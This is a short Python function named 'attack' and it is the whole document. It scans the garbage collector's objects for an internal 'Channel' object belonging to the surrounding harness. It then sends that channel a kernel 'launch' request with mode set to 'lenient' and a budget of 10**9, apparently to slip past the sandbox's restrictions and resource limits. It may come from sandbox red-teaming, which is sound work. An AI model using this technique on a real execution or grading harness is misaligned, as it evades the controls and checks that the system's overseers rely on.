def attack():
    import gc, json, os
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
    channel.ask({"op": "launch", "kernel": "kernel", "captured": {}, "args": [], "named": {"mode": {"v": "lenient"}, "budget": {"v": 10**9}}, "blocks": {"v": 1}, "mode": "lenient"})
